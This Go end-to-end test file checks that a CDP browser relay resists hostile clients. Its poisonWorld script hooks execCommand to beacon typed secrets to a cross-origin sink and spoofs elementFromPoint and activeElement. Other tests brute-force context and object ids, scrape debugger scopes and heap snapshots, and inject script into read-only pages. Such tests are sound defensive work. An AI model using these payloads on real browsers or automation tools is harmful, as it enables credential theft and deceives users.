package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cdprelay/cdprelay/denylist"
	"github.com/cdprelay/cdprelay/internal/cdptest"
	"github.com/cdprelay/cdprelay/relay"
)

// Attacks on what the relay runs in the page itself: the world where it
// looks at a page and types a secret, the scripts it runs there, and the
// execution contexts a client names. Each attack is one a hostile client
// can make with ordinary CDP; CDPRELAY_E2E_DIRECT=1 runs the raw ones
// against the browser's own port, where there is no relay to stop them.

// poisonWorld is script that, run in a world, makes the world's typing
// send what it types to the other origin's sink, and makes what it finds
// at a point (and, with focus, in focus) the Help link: what a client
// that reached the relay's world would run.
func poisonWorld(focus bool) string {
	f := ""
	if focus {
		f = "Object.defineProperty(Document.prototype, 'activeElement', { configurable: true, get() { return help(); } });"
	}
	return `(() => {
  const sink = ` + quote(env.Pages.Other+"/secure/sink") + `;
  const send = (v) => { try { navigator.sendBeacon(sink, String(v)); } catch (e) {} };
  const exec = Document.prototype.execCommand;
  Document.prototype.execCommand = function (c, u, v) { send(v); return exec.call(this, c, u, v); };
  const help = () => document.getElementById('help') || document.body;
  Document.prototype.elementFromPoint = function () { return help(); };
  ` + f + `
  globalThis.poisoned = true;
  return 'poisoned';
})()`
}

// reachWorlds tries every way a client has to run poison in the worlds of
// session's frame frameID: every context id up to 80, the relay's known
// world names (Page.createIsolatedWorld hands out a frame's existing world
// by name, and a script for new documents runs in it at once), bindings
// that replace a world's globals, and objects of every context by id. It
// returns how many tries ran the poison.
func (a *attacker) reachWorlds(session, frameID string, focus bool) int {
	a.t.Helper()
	poison := poisonWorld(focus)
	ran := 0
	a.call(session, "Runtime.enable", nil)
	for id := 1; id <= 80; id++ {
		if v := a.evalIn(session, int64(id), poison); v == `"poisoned"` {
			ran++
		}
	}
	for _, name := range []string{"cdprelay", "cdprelay-", "cdprelay-0"} {
		if res, err := a.call(session, "Page.createIsolatedWorld", map[string]any{"frameId": frameID, "worldName": name}); err == nil {
			var w struct{ ExecutionContextID int64 }
			json.Unmarshal(res, &w)
			if v := a.evalIn(session, w.ExecutionContextID, poison); v == `"poisoned"` {
				ran++
			}
		}
		a.call(session, "Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": poison, "worldName": name, "runImmediately": true})
		a.call(session, "Runtime.addBinding", map[string]any{"name": "sendBeacon", "executionContextName": name})
	}
	// Object ids carry their context: <isolate>.<context>.<n>.
	res, err := a.call(session, "Runtime.evaluate", map[string]any{"expression": "document"})
	if err == nil {
		var r struct{ Result struct{ ObjectID string } }
		json.Unmarshal(res, &r)
		if isolate, _, ok := strings.Cut(r.Result.ObjectID, "."); ok {
			for id := 1; id <= 40; id++ {
				for n := 1; n <= 4; n++ {
					res, err := a.call(session, "Runtime.callFunctionOn", map[string]any{
						"objectId":            fmt.Sprintf("%s.%d.%d", isolate, id, n),
						"functionDeclaration": "function () { return " + poison + "; }", "returnByValue": true,
					})
					if v, _ := evalValue(res); err == nil && v == `"poisoned"` {
						ran++
					}
				}
			}
		}
	}
	return ran
}

// frameID returns the id of session's own frame.
func (a *attacker) frameID(session string) string {
	a.t.Helper()
	res, err := a.call(session, "Page.getFrameTree", nil)
	if err != nil {
		a.t.Fatalf("Page.getFrameTree: %v", err)
	}
	var r struct {
		FrameTree struct{ Frame struct{ ID string } }
	}
	json.Unmarshal(res, &r)
	return r.FrameTree.Frame.ID
}

// sinkGot reports whether the other origin's sink received v.
func sinkGot(v string) bool {
	for _, r := range env.Pages.Site().Requests("/secure/sink") {
		if strings.Contains(r.Body, v) || strings.Contains(r.Query, v) {
			return true
		}
	}
	return false
}

// TestSecretAttackRelayWorld: a client that poisons the world the relay
// types in makes the next secret go to a server of its own. It types the
// secret once (the relay then has a world in the page), poisons every
// world it can reach in the page and in its frame of another origin — by
// id, by name, by a script for new documents, through objects — and types
// it again: the secret goes into the field and nowhere else, and the audit
// log says where.
func TestSecretAttackRelayWorld(t *testing.T) {
	requireEnv(t)
	ctx := testCtx(t, 2*time.Minute)
	s := site(t)
	pw := siteSecret(t, s)
	mark := env.Audit.Len()
	a := newClient(ctx, t)
	main := a.tab(env.Pages.Main + "/secure/login.html?other=" + env.Pages.Other)
	frame := a.child(main, env.Pages.Other)
	targetID := a.frameID(main)
	a.focus(main, "password")
	if _, err := a.call(main, "Input.insertText", map[string]any{"text": ref}); err != nil {
		t.Fatalf("the first typing: %v", err)
	}
	ran := a.reachWorlds(main, targetID, false)
	ran += a.reachWorlds(frame, a.frameID(frame), false)
	t.Logf("the poison ran in %d worlds", ran)
	for i := 0; i < 3; i++ {
		a.focus(main, "password")
		if _, err := a.call(main, "Input.insertText", map[string]any{"text": ref}); err != nil {
			t.Errorf("typing after the poison: %v", err)
		}
		if v := a.field(main, "password"); v != ref {
			t.Errorf("the field reads %q, want %q", v, ref)
		}
	}
	settle()
	if sinkGot(pw) {
		t.Fatal("the secret reached the other origin's server through a poisoned world")
	}
	if !audited(mark, func(e relay.Event) bool {
		return e.Kind == relay.KindSecret && e.Detail == "secret site typed on "+env.Pages.Main
	}) {
		t.Error("no audit record of the typing on " + env.Pages.Main)
	}
	set := secretSet{}
	set.add(t, "the secret", pw)
	noLeaks(t, "raw client", set.scanFrames("client", a.c.Frames()))
}

// TestSecretAttackRelayWorldPlaywright: the same attack from Playwright: it
// fills the password once, poisons every world it reaches from a raw
// session of its own (by id, by the relay's world's name, with a script
// for new documents), reads the source of every script the debugger
// announces, and fills again: the secret goes into the field, not to the
// other origin, and no source or frame holds it.
func TestSecretAttackRelayWorldPlaywright(t *testing.T) {
	requireEnv(t)
	s := site(t)
	pw := siteSecret(t, s)
	tp := newTap(t)
	var rep struct {
		Poisoned int
		Value    string
		Sources  []string
	}
	out, stdout := script(t, tp, "secrets-playwright.mjs", "poisoned", &rep)
	t.Logf("the poison ran in %d worlds; %d sources read", rep.Poisoned, len(rep.Sources))
	if rep.Value != ref {
		t.Errorf("the field reads %q, want %q", rep.Value, ref)
	}
	settle()
	if sinkGot(pw) {
		t.Error("the secret reached the other origin's server through a poisoned world")
	}
	set := secretSet{}
	set.add(t, "the secret", pw)
	noLeaksIn(t, set, tp, out, stdout)
}

// resumer answers every pause the client is told of, as a debugger user
// would look around first: it reads each frame's scopes and this, asks
// each call frame for what a typing script would hold, and resumes.
type resumer struct {
	a    *attacker
	stop context.CancelFunc
	done chan struct{}
	mu   sync.Mutex
	n    int
}

func (a *attacker) resumePauses(session string) *resumer {
	ctx, stop := context.WithCancel(a.ctx)
	r := &resumer{a: a, stop: stop, done: make(chan struct{})}
	go func() {
		defer close(r.done)
		for from := 0; ; {
			m, i, err := a.c.WaitMessage(ctx, from, func(m cdptest.Message) bool { return m.Method == "Debugger.paused" && m.SessionID == session })
			if err != nil {
				return
			}
			from = i + 1
			r.mu.Lock()
			r.n++
			r.mu.Unlock()
			var p struct {
				CallFrames []struct {
					CallFrameID string
					ScopeChain  []struct{ Object struct{ ObjectID string } }
					This        struct{ ObjectID string }
				}
			}
			json.Unmarshal(m.Params, &p)
			for _, f := range p.CallFrames {
				for _, sc := range f.ScopeChain {
					a.c.Send(session, "Runtime.getProperties", map[string]any{"objectId": sc.Object.ObjectID, "ownProperties": true})
				}
				a.c.Send(session, "Debugger.evaluateOnCallFrame", map[string]any{"callFrameId": f.CallFrameID, "expression": "[typeof value === 'string' ? value : '', typeof arguments !== 'undefined' ? [...arguments].join(' ') : ''].join(' ')", "returnByValue": true})
			}
			a.c.Send(session, "Debugger.resume", nil)
		}
	}()
	return r
}

func (r *resumer) close() int {
	r.stop()
	<-r.done
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.n
}

// TestSecretAttackScriptSource: a client with the debugger on while a
// secret is typed reads the sources of the scripts it is told of (and of
// every script id up to well past them), stops in the relay's scripts at
// their first statement and at the page's input events and reads their
// scopes and arguments, and asks for a heap snapshot: none of it gives the
// value.
func TestSecretAttackScriptSource(t *testing.T) {
	requireEnv(t)
	ctx := testCtx(t, 2*time.Minute)
	s := site(t)
	pw := siteSecret(t, s)
	a := newClient(ctx, t)
	main := a.tab(env.Pages.Main + "/secure/login.html")
	for _, m := range []string{"Runtime.enable", "Debugger.enable"} {
		if _, err := a.call(main, m, nil); err != nil {
			t.Fatalf("%s: %v", m, err)
		}
	}
	// Something of the page's own listens to the field, as many login
	// pages do.
	a.eval(main, "document.getElementById('password').addEventListener('input', (e) => { window.lastInput = e.data; })")
	scripts := func() map[string]bool {
		ids := map[string]bool{}
		for _, m := range a.c.Messages() {
			if m.Method == "Debugger.scriptParsed" && m.SessionID == main {
				var ev struct{ ScriptID string }
				json.Unmarshal(m.Params, &ev)
				ids[ev.ScriptID] = true
			}
		}
		return ids
	}
	readSources := func() {
		top := 0
		for id := range scripts() {
			var n int
			fmt.Sscan(id, &n)
			top = max(top, n)
		}
		for id := 1; id <= top+60; id++ {
			a.call(main, "Debugger.getScriptSource", map[string]any{"scriptId": fmt.Sprint(id)})
		}
	}

	a.focus(main, "password")
	if _, err := a.call(main, "Input.insertText", map[string]any{"text": ref}); err != nil {
		t.Fatalf("typing with the debugger on: %v", err)
	}
	readSources()

	// Stop at every script's first statement and at the field's input.
	r := a.resumePauses(main)
	var bp struct{ BreakpointID string }
	if res, err := a.call(main, "Debugger.setInstrumentationBreakpoint", map[string]any{"instrumentation": "beforeScriptExecution"}); err == nil {
		json.Unmarshal(res, &bp)
	}
	a.call(main, "DOMDebugger.setEventListenerBreakpoint", map[string]any{"eventName": "input"})
	a.call(main, "DOMDebugger.setEventListenerBreakpoint", map[string]any{"eventName": "beforeinput"})
	a.focus(main, "password")
	if _, err := a.call(main, "Input.insertText", map[string]any{"text": ref}); err != nil {
		t.Errorf("typing with pauses on: %v", err)
	}
	a.call(main, "Debugger.removeBreakpoint", map[string]any{"breakpointId": bp.BreakpointID})
	a.call(main, "DOMDebugger.removeEventListenerBreakpoint", map[string]any{"eventName": "input"})
	a.call(main, "DOMDebugger.removeEventListenerBreakpoint", map[string]any{"eventName": "beforeinput"})
	settle()
	t.Logf("the client was shown %d pauses", r.close())
	a.call(main, "Debugger.resume", nil)
	readSources()
	if v := a.field(main, "password"); v != ref {
		t.Errorf("the field reads %q, want %q", v, ref)
	}

	// The heap holds every string of the page.
	for _, m := range []string{"HeapProfiler.enable", "HeapProfiler.takeHeapSnapshot", "Memory.getDOMCounters", "Profiler.enable"} {
		_, err := a.call(main, m, map[string]any{"reportProgress": false})
		t.Logf("%s: %v", m, err)
	}
	if _, err := a.call(main, "HeapProfiler.takeHeapSnapshot", nil); err == nil {
		t.Error("a heap snapshot was taken")
	}
	if !direct() {
		// What Chrome itself says of the domain to an extension.
		env.Relay.SetSecrets(nil)
		_, err := a.call(main, "HeapProfiler.takeHeapSnapshot", map[string]any{"reportProgress": false})
		t.Logf("without secrets, through chrome.debugger: %v", err)
	}
	a.call(main, "Debugger.disable", nil)
	set := secretSet{}
	set.add(t, "the secret", pw)
	noLeaks(t, "raw client", set.scanFrames("client", a.c.Frames()))
}

// TestTierAttackStaleWorldID: a client makes 250 isolated worlds on a
// full site, switches Runtime off, and takes the tab to a read-only site,
// which another renderer serves and whose contexts count from 1 again; it
// makes worlds there too (with Runtime off, nobody is told of them), and
// runs script that would rewrite the page in every context id it had, by
// unique id, through objects of every context and through the page's
// nodes resolved into every id: the read-only page is untouched.
func TestTierAttackStaleWorldID(t *testing.T) {
	requireEnv(t)
	useTiers(t)
	ctx := testCtx(t, 3*time.Minute)
	p := newPerson(ctx, t)
	a := newAttacker(ctx, t)
	target, s := a.newTab(siteURL(env.Pages.Main, newMark(), false))
	if _, err := a.call(s, "Runtime.enable", nil); err != nil {
		t.Fatal(err)
	}
	top := int64(0)
	for i := 0; i < 250; i++ {
		res, err := a.call(s, "Page.createIsolatedWorld", map[string]any{"frameId": target, "worldName": fmt.Sprintf("w%d", i)})
		if err != nil {
			t.Fatalf("Page.createIsolatedWorld: %v", err)
		}
		var w struct{ ExecutionContextID int64 }
		json.Unmarshal(res, &w)
		top = max(top, w.ExecutionContextID)
	}
	var uniques []string
	for _, m := range a.c.Messages() {
		if m.Method == "Runtime.executionContextCreated" && m.SessionID == s {
			var ev struct{ Context struct{ UniqueID string } }
			json.Unmarshal(m.Params, &ev)
			uniques = append(uniques, ev.Context.UniqueID)
		}
	}
	isolate := ""
	if res, err := a.call(s, "Runtime.evaluate", map[string]any{"expression": "document"}); err == nil {
		var r struct{ Result struct{ ObjectID string } }
		json.Unmarshal(res, &r)
		isolate, _, _ = strings.Cut(r.Result.ObjectID, ".")
	}
	if _, err := a.call(s, "Runtime.disable", nil); err != nil {
		t.Fatal(err)
	}
	ro := siteURL(env.Pages.Other, newMark(), false)
	from := len(a.c.Messages())
	if _, err := a.call(s, "Page.navigate", map[string]any{"url": ro}); err != nil {
		t.Fatalf("Page.navigate to the read-only site: %v", err)
	}
	a.accessChanged(from, s, "read-only")
	p.waitComplete(target, ro)
	// Worlds of its own on the read-only page, made with Runtime off: their
	// ids are the ones the old page's worlds had.
	for i := 0; i < 20; i++ {
		if _, err := a.call(s, "Page.createIsolatedWorld", map[string]any{"frameId": target, "worldName": fmt.Sprintf("ro%d", i)}); err != nil {
			t.Fatalf("Page.createIsolatedWorld on the read-only page: %v", err)
		}
	}
	a.roundTrip()

	rewrite := `document.getElementById('out').textContent = 'rewritten'; document.title = 'rewritten'; 'rewritten'`
	ran := 0
	try := func(method string, params map[string]any) {
		res, err := a.call(s, method, params)
		if v, _ := evalValue(res); err == nil && v == `"rewritten"` {
			ran++
		}
	}
	for id := int64(1); id <= top+10; id++ {
		try("Runtime.evaluate", map[string]any{"expression": rewrite, "contextId": id, "returnByValue": true})
		try("Runtime.callFunctionOn", map[string]any{"functionDeclaration": "function () { " + rewrite + " }", "executionContextId": id, "returnByValue": true})
	}
	for _, u := range uniques {
		try("Runtime.evaluate", map[string]any{"expression": rewrite, "uniqueContextId": u, "returnByValue": true})
	}
	if isolate != "" {
		for id := int64(1); id <= 30; id++ {
			for n := 1; n <= 3; n++ {
				try("Runtime.callFunctionOn", map[string]any{"functionDeclaration": "function () { " + rewrite + " }", "objectId": fmt.Sprintf("%s.%d.%d", isolate, id, n), "returnByValue": true})
			}
		}
	}
	// A node of the read-only page, resolved into an old world's id.
	if res, err := a.call(s, "DOM.getDocument", map[string]any{"depth": 0}); err == nil {
		var d struct{ Root struct{ BackendNodeID int64 } }
		json.Unmarshal(res, &d)
		for id := int64(1); id <= 40; id++ {
			res, err := a.call(s, "DOM.resolveNode", map[string]any{"backendNodeId": d.Root.BackendNodeID, "executionContextId": id})
			if err != nil {
				continue
			}
			var o struct{ Object struct{ ObjectID string } }
			json.Unmarshal(res, &o)
			try("Runtime.callFunctionOn", map[string]any{"functionDeclaration": "function () { " + rewrite + " }", "objectId": o.Object.ObjectID, "returnByValue": true})
		}
	}
	settle()
	if got := p.eval(target, "document.getElementById('out').textContent + ' / ' + document.title"); strings.Contains(got, "rewritten") || ran > 0 {
		t.Fatalf("the read-only page was rewritten (%d times): %s", ran, got)
	}
}

// TestApprovalAttackPoisonedCard: with presses on a form's submit control
// asked, a client poisons every world it can reach so that what is under
// the pointer, or in focus, is the Help link; then it presses "Place
// order", and Enter in a form's field. The card names what the press
// really does, and a denied press does not happen.
func TestApprovalAttackPoisonedCard(t *testing.T) {
	requireEnv(t)
	setPolicy(t, denylist.Config{AskSubmit: true})
	ctx := testCtx(t, 3*time.Minute)
	p := newPerson(ctx, t)
	a := newAttacker(ctx, t)
	in := env.Relay.Default()
	// ask sends a command that must be asked about, denies it, and returns
	// what the card said.
	ask := func(session, method string, params map[string]any) string {
		t.Helper()
		id, err := a.c.Send(session, method, params)
		if err != nil {
			t.Fatal(err)
		}
		deadline := time.Now().Add(10 * time.Second)
		for {
			if as := in.Status().Approvals; len(as) == 1 {
				if err := in.Deny(as[0].ID, "the test"); err != nil {
					t.Fatal(err)
				}
				wctx, cancel := context.WithTimeout(ctx, 10*time.Second)
				defer cancel()
				a.c.WaitReply(wctx, id)
				return as[0].What
			}
			for _, m := range a.c.Messages() {
				if m.Method == "" && m.ID != nil && *m.ID == id {
					t.Fatalf("%s %v went on without a person being asked: %s", method, params, m.Raw)
				}
			}
			if time.Now().After(deadline) {
				t.Fatalf("%s %v was not asked about", method, params)
			}
			time.Sleep(20 * time.Millisecond)
		}
	}

	target, s := a.newTab(env.Pages.Main + "/shop.html")
	box, err := a.eval(s, "(() => { const r = document.getElementById('buy').getBoundingClientRect(); return [r.x + r.width / 2, r.y + r.height / 2]; })()")
	if err != nil {
		t.Fatal(err)
	}
	var xy [2]float64
	json.Unmarshal([]byte(box), &xy)
	press := func(typ string) map[string]any {
		return map[string]any{"type": typ, "x": xy[0], "y": xy[1], "button": "left", "clickCount": 1}
	}
	// A press somewhere harmless first: a relay that looks from a world of
	// its own has one in the page from then on.
	a.call(s, "Input.dispatchMouseEvent", map[string]any{"type": "mousePressed", "x": 5, "y": 5, "button": "left", "clickCount": 1})
	a.call(s, "Input.dispatchMouseEvent", map[string]any{"type": "mouseReleased", "x": 5, "y": 5, "button": "left", "clickCount": 1})
	t.Logf("the poison ran in %d worlds", a.reachWorlds(s, target, true))
	a.eval(s, poisonWorld(true))
	what := ask(s, "Input.dispatchMouseEvent", press("mousePressed"))
	if want := `click the submit button "Place order" on ` + host(env.Pages.Main); what != want {
		t.Errorf("the card says %q, want %q", what, want)
	}
	a.call(s, "Input.dispatchMouseEvent", press("mouseReleased"))
	settle()
	if got := p.eval(target, "location.pathname"); got != `"/shop.html"` {
		t.Fatalf("the denied press placed the order: the tab is on %s", got)
	}

	// Enter in a form's field: the focus is the field, whatever the
	// poisoned worlds say.
	target, s = a.newTab(env.Pages.Main + "/secure/login.html")
	a.eval(s, "document.getElementById('user').focus()")
	t.Logf("the poison ran in %d worlds", a.reachWorlds(s, target, true))
	a.eval(s, poisonWorld(true))
	a.eval(s, "document.getElementById('user').focus()")
	what = ask(s, "Input.dispatchKeyEvent", map[string]any{"type": "keyDown", "key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13, "text": "\r"})
	if !strings.Contains(what, "press Enter in the field") || !strings.Contains(what, "of a form") {
		t.Errorf("the card says %q, want Enter in the form's field", what)
	}
	a.call(s, "Input.dispatchKeyEvent", map[string]any{"type": "keyUp", "key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13})
	settle()
	if got := p.eval(target, "location.pathname"); got != `"/secure/login.html"` {
		t.Fatalf("the denied Enter sent the form: the tab is on %s", got)
	}
}
